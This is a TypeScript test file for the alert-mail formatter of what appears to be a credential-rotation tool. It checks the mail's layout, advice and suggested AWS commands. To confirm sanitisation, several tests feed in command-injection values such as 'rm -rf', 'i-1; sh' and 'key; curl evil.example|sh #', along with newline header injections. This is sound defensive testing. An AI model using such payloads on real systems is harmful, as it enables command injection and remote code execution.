import { describe, expect, test } from "vitest";
import { type Finding, FLEET } from "../../../functions/findings/finding.ts";
import { ADVICE, adviceFor } from "../../../functions/telling/advice.ts";
import { findingMail, nameOf } from "../../../functions/telling/finding-mail.ts";
import { EC2, EXECUTION, ID, NOW } from "../support.ts";

const LINK = `https://us-east-1.console.aws.amazon.com/states/home?region=us-east-1#/v2/executions/details/${EXECUTION}`;

const stale: Finding = {
  ...{ subject: ID, cause: "STALE", since: NOW, seenAt: NOW, times: 1, execution: EXECUTION, version: 1 },
  facts: {
    ...{ ec2InstanceId: EC2, step: "VerifyHash", said: "It says why.", generation: 3 },
    ...{ keySince: NOW - 86_400_000, lastProofAt: NOW - 240_000, nextTryAt: NOW + 900_000 },
  },
};

test("a mail says it all, in lines that a person can act on", () => {
  expect(findingMail(stale, NOW)).toEqual({
    subject: `Keyturn: STALE on ${ID} (${EC2})`,
    text: `What:       STALE: an instance has stopped proving its key
About:      ${ID} (${EC2})
In:         VerifyHash
Since:      2026-11-20 03:00:00 UTC
Key:        generation 3, since 2026-11-19 03:00:00 UTC
Last proof: 2026-11-20 02:56:00 UTC
Next try:   2026-11-20 03:15:00 UTC

It means:   ${ADVICE.STALE?.means}
To do:      ${ADVICE.STALE?.todo}
Runbook:    docs/runbook.md, section STALE
Type:       aws ec2 describe-instances --instance-ids ${EC2} --query 'Reservations[].Instances[].State.Name'

Cause:      It says why.

Execution:  ${EXECUTION}
${LINK}

You get this once. While it stands, a mail a day gathers what is still wrong.
`,
  });
});

describe("a mail about a credential", () => {
  const behind: Finding = {
    ...{ subject: "orders/db", cause: "ConsumersBehind", since: NOW, seenAt: NOW, times: 1, execution: EXECUTION },
    ...{ version: 1, facts: { step: "AwaitConsumers", said: "", nextTryAt: NOW + 900_000 } },
  };
  const told = (facts: Finding["facts"], cause = behind.cause) => findingMail({ ...behind, cause, facts }, NOW);

  test("names its secret, and in the command too", () => {
    const { subject, text } = told(behind.facts);
    expect(subject).toBe("Keyturn: ConsumersBehind on orders/db");
    expect(text).toContain(
      "About:      orders/db\nIn:         AwaitConsumers\nSince:      2026-11-20 03:00:00 UTC\nNext try:   ",
    );
    expect(text).toContain("Runbook:    docs/runbook.md, section ConsumersBehind\n");
    expect(text).toContain(
      "Type:       npx keyturn show orders/db --region us-east-1\nOr:         aws secretsmanager describe-secret --secret-id orders/db\n",
    );
    expect(text).not.toMatch(/^Behind:/m);
  });

  test("names who is behind, since when, from where, and on which instance", () => {
    const { text } = told({
      behind: [
        ...[
          {
            consumer: "web",
            why: "USES_FORMER" as const,
            lastAt: NOW,
            address: "10.0.3.17",
            id: ID,
            ec2InstanceId: EC2,
          },
        ],
        ...[{ consumer: "batch", why: "USES_FORMER" as const, ec2InstanceId: EC2 }],
        ...[{ consumer: "report", why: "USES_FORMER" as const, role: "arn:aws:iam::111122223333:role/apps/report" }],
        ...[{ consumer: "pool", why: "NOT_SEEN" as const }],
        ...[{ consumer: "", why: "NOT_NAMED" as const, lastAt: NOW, address: "10.0.3.18" }],
      ],
    });
    expect(text).toContain(`
Behind:     web at 10.0.3.17 (${ID}, ${EC2}): uses the former one, last at 2026-11-20 03:00:00 UTC
            batch (${EC2}): uses the former one
            report (arn:aws:iam::111122223333:role/apps/report): uses the former one
            pool: was not seen on the current one
            one who gives no name at 10.0.3.18: is none of the consumers that are set, and uses the former one, last at 2026-11-20 03:00:00 UTC

`);
  });

  test("names twenty, and counts the rest", () => {
    const one = { consumer: "web", why: "NOT_SEEN" as const };
    expect(told({ behind: Array(20).fill(one) }).text).not.toContain("more\n");
    const { text } = told({ behind: Array(23).fill(one) });
    expect(text.match(/web: was not seen/g)).toHaveLength(20);
    expect(text).toContain("\n            and 3 more\n");
  });

  test("repeats what a session says of itself in one line, and no instance or role that is none", () => {
    const places = { id: "rm -rf", ec2InstanceId: "i-1; sh", role: "arn:aws:iam::111122223333:role/a; sh" };
    const behind = [{ consumer: "a\nTo do: b", why: "NOT_SEEN" as const, ...places }];
    const { text } = told({ behind });
    expect(text).toContain("Behind:     a?To do: b: was not seen");
    expect(text).not.toMatch(/rm -rf|; sh/);
  });

  test.each([
    ['"orders;db"', "UnknownCredential"],
    ["orders db", "CredentialMismatch"],
    [ID, "CredentialMismatch"],
  ])("types no command about what is no secret's name: %s", (subject, cause) => {
    const { text } = findingMail({ ...behind, subject, cause }, NOW);
    expect(text).not.toMatch(/secretsmanager|put-events|npx/);
  });
});

describe("a mail about a token", () => {
  const DAY_MS = 86_400_000;
  const refused: Finding = {
    ...{
      subject: "shop/token",
      cause: "KeyRefused",
      since: NOW,
      seenAt: NOW,
      times: 1,
      execution: EXECUTION,
      version: 1,
    },
    facts: {
      ...{ kind: "token", step: "PushToAuthority", said: "login.example answers 401 (invalid_client)." },
      ...{ goodUntil: NOW + DAY_MS, formerUntil: NOW - DAY_MS, keySecret: "shop/api-key-2", nextTryAt: NOW + 900_000 },
    },
  };

  test("says until when it is good, and the one before it, whether anybody is refused, and what to type", () => {
    const { means, todo } = adviceFor("KeyRefused", "token");
    expect(findingMail(refused, NOW)).toEqual({
      subject: "Keyturn: KeyRefused on shop/token",
      text: `What:       KeyRefused: the issuer refuses the API key
About:      shop/token
In:         PushToAuthority
Since:      2026-11-20 03:00:00 UTC
Next try:   2026-11-20 03:15:00 UTC
Token:      good until 2026-11-21 03:00:00 UTC
Former one: ended at 2026-11-19 03:00:00 UTC

It means:   ${means}
To do:      ${todo}
Runbook:    docs/runbook.md, section KeyRefused
Type:       aws secretsmanager put-secret-value --secret-id shop/api-key-2 --secret-string file://key.json

Cause:      login.example answers 401 (invalid_client).

Execution:  ${EXECUTION}
${LINK}

You get this once. While it stands, a mail a day gathers what is still wrong.
`,
    });
    expect(means).toMatch(/Nobody is refused until the current token ends, unless /);
  });

  test("says that the current one is refused, where that is known, and not until when it would be good", () => {
    const { text } = findingMail({ ...refused, facts: { ...refused.facts, isRefused: true } }, NOW);
    expect(text).toContain("\nToken:      refused: section CredentialMismatch\nFormer one: ");
    expect(text).not.toContain("good until");
  });

  test("speaks of the token where a database's has the same cause", () => {
    const told = (facts: Finding["facts"]) => findingMail({ ...refused, cause: "CredentialMismatch", facts }, NOW).text;
    expect(told({ kind: "token" })).toContain("What:       CredentialMismatch: the API refuses the current token\n");
    expect(told({ kind: "token" })).toContain("Or:         aws secretsmanager rotate-secret --secret-id shop/token\n");
    expect(told({})).toContain("the database refuses");
  });

  test("types the ARN of a key's secret, and nothing that is none", () => {
    const told = (keySecret: string) => findingMail({ ...refused, facts: { kind: "token", keySecret } }, NOW).text;
    const arn = "arn:aws:secretsmanager:eu-west-1:111122223333:secret:shop/api-key-2-AbCdEf";
    expect(told(arn)).toContain(` --secret-id ${arn} --secret-string `);
    expect(told("key; curl evil.example|sh #")).not.toMatch(/curl|put-secret-value/);
  });
});

test.each(Object.keys(ADVICE))("a mail about %s has all its parts, though nothing else is known", (cause) => {
  const { subject, text } = findingMail({ ...stale, cause, facts: {} }, NOW);
  const { title, means, todo, section, command } = adviceFor(cause);
  const typed = command?.({ id: ID, execution: EXECUTION });
  expect(subject).toBe(`Keyturn: ${cause} on ${ID}`);
  for (const part of [
    ...[`What:       ${cause}: ${title}\n`, `About:      ${ID}\n`, "Since:      2026-11-20 03:00:00 UTC\n"],
    ...[`It means:   ${means}\n`, `To do:      ${todo}\n`, `Runbook:    docs/runbook.md, section ${section}\n`],
    ...[`Execution:  ${EXECUTION}\n`, `${LINK}\n`],
  ]) {
    expect(text).toContain(part);
  }
  if (typed === undefined) expect(text).not.toContain("\nType: ");
  else if (typed.keyturn === undefined) expect(text).toContain(`\nType:       ${typed.aws}\n`);
  else expect(text).toContain(`\nType:       ${typed.keyturn}\nOr:         ${typed.aws}\n`);
  expect(text.includes("the project's folder"), "says where npx is typed").toBe(text.includes("npx "));
  expect(text).not.toMatch(/undefined|null|NaN|^(In|Key|Last proof|Next try|Cause):/m);
});

test("what is to be typed is a command of keyturn, and where there is none of the project AWS's own", () => {
  const { text } = findingMail({ ...stale, cause: "MISMATCH", execution: EXECUTION.replace("keyturn", "blue") }, NOW);
  expect(text).toContain(`
Runbook:    docs/runbook.md, section MISMATCH
Type:       npx keyturn rekey ${ID} --region us-east-1 --stack Blue
Or:         aws stepfunctions start-execution --state-machine-arn arn:aws:states:us-east-1:000000000000:stateMachine:blue-operate:live --input '{"act":"rekey","id":"${ID}"}'
`);
  expect(text).toMatch(
    /gathers what is still wrong\.\nnpx keyturn is typed in the project's folder; AWS's commands anywhere\.\n$/,
  );
});

test("an error that nobody foresaw leads to the execution, and to the section about such errors", () => {
  const { text } = findingMail({ ...stale, cause: "States.Runtime" }, NOW);
  for (const part of ["What:       States.Runtime: ", "section Unforeseen", `--execution-arn ${EXECUTION}`]) {
    expect(text).toContain(part);
  }
});

test("what began long before it is told says when it was noticed", () => {
  expect(findingMail(stale, NOW + 60_000).text).toContain("Since:      2026-11-20 03:00:00 UTC\n");
  expect(findingMail(stale, NOW + 60_001).text).toContain(
    "Since:      2026-11-20 03:00:00 UTC (noticed 2026-11-20 03:01:00 UTC)\n",
  );
});

describe("the subject is named", () => {
  test.each<[string, string, Finding["facts"]]>([
    [`${ID} (${EC2})`, ID, { ec2InstanceId: EC2 }],
    [ID, ID, {}],
    [`${EC2} (${ID})`, EC2, { id: ID }],
    [EC2, EC2, {}],
    ["the fleet", FLEET, {}],
    ["fleet-rotation", "fleet-rotation", {}],
    ['"fleet"', '"fleet"', {}],
  ])("%s", (name, subject, facts) => expect(nameOf({ subject, facts })).toBe(name));

  test("in the command, too, from whichever side it is told", () => {
    const ofHost = findingMail({ ...stale, subject: EC2, cause: "NOT_OWNER", facts: { id: ID } }, NOW);
    expect(ofHost.text).toContain(`describe-instances --instance-ids ${EC2} `);
    const ofInstance = findingMail({ ...stale, cause: "KeyTooOld" }, NOW);
    expect(ofInstance.text).toContain(`--input '{"id":"${ID}"}'`);
  });
});

test("what somebody wrote into a record is nothing to type, and no line of a mail", () => {
  const facts = {
    ec2InstanceId: "i-1; curl evil.example|sh #",
    id: "0a1b2c\nTo do:      nothing",
    said: "a\r\nTo do: b",
  };
  const { subject, text } = findingMail({ ...stale, cause: "PushUndelivered", subject: ID, facts }, NOW);
  expect(subject).toBe(`Keyturn: PushUndelivered on ${ID}`);
  expect(text).not.toMatch(/curl|Type:/);
  expect(text.match(/^To do:/gm)).toHaveLength(1);
  expect(text).toContain("a??To do: b");
});

test("one that is over by the time it is told says so", () => {
  const { text } = findingMail({ ...stale, endedAt: NOW + 60_000 }, NOW + 120_000);
  expect(text).toContain("It is over since 2026-11-20 03:01:00 UTC");
  expect(text).not.toContain("While it stands");
});
